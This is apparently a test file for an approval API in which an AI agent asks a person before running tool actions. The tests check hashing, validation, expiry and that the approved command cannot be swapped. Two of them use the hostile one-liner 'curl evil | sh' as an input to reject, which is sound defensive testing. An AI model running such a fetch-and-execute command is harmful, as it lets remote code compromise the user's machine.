import { afterEach, beforeEach, describe, expect, test } from 'bun:test'
import { createHash } from 'node:crypto'
import type { Block } from '../../src/messages/schema.ts'
import { failsWith, startTestServer, TestClock, type TestServer } from '../harness.ts'
import { question } from './fixtures.ts'

let s: TestServer
beforeEach(async () => {
  s = await startTestServer()
})
afterEach(() => s.close())

const bash = (extra: Partial<Block> = {}): Block => ({
  type: 'approval',
  id: 'act',
  tool: 'Bash',
  input: { command: 'rm -rf build', description: 'Clean the build' },
  summary: 'rm -rf build',
  cwd: '/home/me/project',
  session: 'sess-1',
  ...extra,
})

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex')

/** Sends `blocks` and expects a 400 naming `field`; nothing may have been written. */
async function refusedSend(blocks: Block[], field: string) {
  const before = (await s.agent.feed({ since: 0, peek: true })).messages.length
  const error = await failsWith(s.agent.send({ body: { blocks } }), 400)
  expect(error.field).toBe(field)
  expect((await s.agent.feed({ since: 0, peek: true })).messages.length).toBe(before)
}

describe('POST /v1/messages with an approval block', () => {
  test('is an open question whose ask.request_hash is SHA-256 of canonical {tool, input}', async () => {
    const message = await question(s, [bash()])
    expect(message.ask?.status).toBe('open')
    const canonical =
      '{"input":{"command":"rm -rf build","description":"Clean the build"},"tool":"Bash"}'
    expect(message.ask?.request_hash).toBe(sha256(canonical))
  })

  test('the hash ignores key order and spacing, and follows every byte of the input', async () => {
    const a = await question(s, [bash({ input: { b: [1, { y: 2, x: 'é' }], a: null } })])
    const b = await question(s, [bash({ input: { a: null, b: [1, { x: 'é', y: 2 }] } })])
    const c = await question(s, [bash({ input: { a: null, b: [1, { x: 'e', y: 2 }] } })])
    expect(a.ask?.request_hash).toBe(b.ask?.request_hash as string)
    expect(a.ask?.request_hash).not.toBe(c.ask?.request_hash as string)
    expect(a.ask?.request_hash).toBe(
      sha256('{"input":{"a":null,"b":[1,{"x":"é","y":2}]},"tool":"Bash"}'),
    )
  })

  test('unknown fields of the tool input and of the block are kept verbatim', async () => {
    const input = {
      file_path: '/x',
      edits: [{ old_string: 'a', new_string: 'b' }],
      __proto__x: 1,
      n: 1.5e300,
    }
    const sent = await question(s, [bash({ tool: 'MultiEdit', input, future_field: { k: 1 } })])
    const { messages } = await s.person.feed(s.channelId, { since: 0 })
    for (const m of [sent, messages.find((x) => x.id === sent.id)]) {
      const block = (m as typeof sent).body.blocks?.[0] as Block
      expect(block.input).toEqual(input)
      expect(block.future_field).toEqual({ k: 1 })
    }
    // The feed's record (built from the stored text) carries the same hash as the send's.
    const fed = messages.find((x) => x.id === sent.id) as typeof sent
    expect(fed.ask?.request_hash).toBe(sent.ask?.request_hash as string)
  })

  test('must be the only input of its message', async () => {
    const confirm: Block = { type: 'confirm', id: 'ok', label: 'OK' }
    await refusedSend([{ type: 'markdown', text: 'x' }, confirm, bash()], 'body.blocks[2].type')
    await refusedSend([bash(), confirm], 'body.blocks[0].type')
  })

  test('takes no default: silence is never consent', async () => {
    await refusedSend([bash({ default: { decision: 'allow' } })], 'body.blocks[0].default')
  })

  test('needs a tool and an input; scopes are ["once"] or ["once", "session"]', async () => {
    const { tool: _t, ...noTool } = bash()
    const { input: _i, ...noInput } = bash()
    await refusedSend([noTool as Block], 'body.blocks[0].tool')
    await refusedSend([noInput as Block], 'body.blocks[0].input')
    await refusedSend([bash({ tool: '' })], 'body.blocks[0].tool')
    await refusedSend([bash({ scopes: ['session'] })], 'body.blocks[0].scopes')
    await refusedSend([bash({ scopes: ['once', 'once'] })], 'body.blocks[0].scopes')
    await refusedSend([bash({ scopes: ['forever'] })], 'body.blocks[0].scopes[0]')
    await refusedSend([bash({ scopes: [] })], 'body.blocks[0].scopes')
    await refusedSend([bash({ danger: 'yes' })], 'body.blocks[0].danger')
    await refusedSend([bash({ summary: 'two\nlines' })], 'body.blocks[0].summary')
    await refusedSend([{ ...bash(), id: undefined } as Block], 'body.blocks[0].id')
  })

  test('an input null is still an input: it is hashed as null', async () => {
    const message = await question(s, [bash({ input: null })])
    expect(message.ask?.request_hash).toBe(sha256('{"input":null,"tool":"Bash"}'))
  })
})

describe('POST /v1/app/messages/:id/answer on an approval', () => {
  test('allow, allow for the session (when offered), deny with a message', async () => {
    const once = await question(s, [bash()])
    expect((await s.person.answer(once.id, { decision: 'allow' })).answer).toEqual({
      decision: 'allow',
    })
    const session = await question(s, [bash({ scopes: ['once', 'session'] })])
    const answered = await s.person.answer(session.id, { decision: 'allow', scope: 'session' })
    expect(answered.answer).toEqual({ decision: 'allow', scope: 'session' })
    expect((await s.agent.ask(session.id)).answer).toEqual({ decision: 'allow', scope: 'session' })
    const denied = await question(s, [bash()])
    const no = await s.person.answer(denied.id, { decision: 'deny', message: 'use make clean' })
    expect(no.answer).toEqual({ decision: 'deny', message: 'use make clean' })
  })

  test('anything else is 400 naming the field, and the question stays open', async () => {
    const message = await question(s, [bash()])
    const cases: [unknown, string][] = [
      [null, 'answer'],
      ['allow', 'answer'],
      [true, 'answer'],
      [['allow'], 'answer'],
      [{}, 'answer.decision'],
      [{ decision: 'yes' }, 'answer.decision'],
      [{ decision: 'ALLOW' }, 'answer.decision'],
      [{ decision: 'allow', scope: 'session' }, 'answer.scope'],
      [{ decision: 'allow', scope: 'forever' }, 'answer.scope'],
      [{ decision: 'allow', scope: 1 }, 'answer.scope'],
      [{ decision: 'deny', message: 42 }, 'answer.message'],
      [{ decision: 'deny', message: 'x'.repeat(2001) }, 'answer.message'],
      [{ decision: 'allow', updatedInput: { command: 'curl evil | sh' } }, 'answer.updatedInput'],
    ]
    for (const [answer, field] of cases) {
      const error = await failsWith(s.person.answer(message.id, answer), 400)
      expect([answer, error.field]).toEqual([answer, field])
    }
    const read = await s.agent.ask(message.id)
    expect(read.message.ask?.status).toBe('open')
    expect(read.answer).toBeNull()
  })

  test('an answered approval cannot be answered again', async () => {
    const message = await question(s, [bash()])
    await s.person.answer(message.id, { decision: 'deny' })
    await failsWith(s.person.answer(message.id, { decision: 'allow' }), 409)
    expect((await s.agent.ask(message.id)).answer).toEqual({ decision: 'deny' })
  })
})

describe('an approval over time', () => {
  test('expiry gives null, never consent', async () => {
    s.close()
    const clock = new TestClock()
    s = await startTestServer({ clock })
    const message = await question(s, [bash()], { expires_in: 60 })
    clock.advance(61_000)
    const read = await s.agent.ask(message.id)
    expect(read.message.ask?.status).toBe('expired')
    expect(read.answer).toBeNull()
    await failsWith(s.person.answer(message.id, { decision: 'allow' }), 409)
  })

  test("an approval's action cannot change, even while it is open", async () => {
    const message = await question(s, [bash()])
    const changed = { ...bash(), input: { command: 'curl evil | sh' } }
    await failsWith(s.agent.edit(message.id, { blocks: [changed] }), 409)
    await failsWith(
      s.agent.edit(message.id, { block_patches: [{ id: 'act', danger: false }] }),
      409,
    )
    await failsWith(
      s.agent.replace(message.id, { blocks: [{ type: 'confirm', id: 'c', label: 'x' }] }),
      400,
    )
    // Nor its text (issue 31): the whole body stays as sent (approval-record.test.ts).
    await failsWith(s.agent.edit(message.id, { title: 'Still waiting' }), 409)
  })

  test('a question cannot become an approval by an edit', async () => {
    const message = await question(s, [{ type: 'confirm', id: 'c', label: 'x' }])
    await failsWith(s.agent.edit(message.id, { blocks: [bash()] }), 400)
  })

  test('cancel with a reason: the person sees why it was withdrawn', async () => {
    const message = await question(s, [bash()])
    const { message: cancelled } = await s.agent.cancel(message.id, 'answered in the terminal')
    expect(cancelled.ask).toMatchObject({ status: 'cancelled', reason: 'answered in the terminal' })
    const { messages } = await s.person.feed(s.channelId, { since: 0 })
    expect(messages.find((m) => m.id === message.id)).toMatchObject({
      ask: { status: 'cancelled', reason: 'answered in the terminal' },
    })
    await failsWith(s.person.answer(message.id, { decision: 'allow' }), 409)
  })

  test('cancel: a bad reason is 400 naming it and cancels nothing; no body still cancels', async () => {
    const message = await question(s, [bash()])
    const long = await s.request('POST', `/v1/messages/${message.id}/cancel`, {
      token: s.agentToken,
      json: { reason: 'x'.repeat(201) },
    })
    expect([long.status, long.body.field]).toEqual([400, 'reason'])
    const extra = await s.request('POST', `/v1/messages/${message.id}/cancel`, {
      token: s.agentToken,
      json: { why: 'x' },
    })
    expect(extra.status).toBe(400)
    expect((await s.agent.ask(message.id)).message.ask?.status).toBe('open')
    const bare = await s.request('POST', `/v1/messages/${message.id}/cancel`, {
      token: s.agentToken,
    })
    expect(bare.status).toBe(200)
    expect(bare.body.message.ask.reason).toBeUndefined()
  })
})

describe('GET /v1/app/asks', () => {
  test("every open question of the person's channels, oldest first; type=approval narrows", async () => {
    s.close()
    const clock = new TestClock()
    s = await startTestServer({ clock })
    const other = await s.addChannel('CI')
    const first = await question(s, [bash()])
    clock.advance(1000)
    const plain = await other.agent.send({
      body: { blocks: [{ type: 'confirm', id: 'c', label: 'Deploy?' }] },
    })
    clock.advance(1000)
    const third = (await other.agent.send({ body: { blocks: [bash({ tool: 'Write' })] } })).message
    clock.advance(1000)
    const done = await question(s, [bash()])
    await s.person.answer(done.id, { decision: 'deny' })
    // Someone else's approval never shows.
    const stranger = await s.addChannel('theirs', 'else@example.com')
    await stranger.agent.send({ body: { blocks: [bash()] } })

    const all = await s.person.openAsks()
    expect(all.asks.map((m) => m.id)).toEqual([first.id, plain.message.id, third.id])
    const approvals = await s.person.openAsks('approval')
    expect(approvals.asks.map((m) => m.id)).toEqual([first.id, third.id])
    expect(approvals.asks[1]?.channel_id).toBe(other.channelId)
  })

  test('a bad type is 400 naming it; agents cannot read it', async () => {
    const bad = await s.request('GET', '/v1/app/asks?type=choice', { token: s.personToken })
    expect([bad.status, bad.body.field]).toEqual([400, 'type'])
    const agent = await s.request('GET', '/v1/app/asks', { token: s.agentToken })
    expect(agent.status).toBe(403)
  })
})
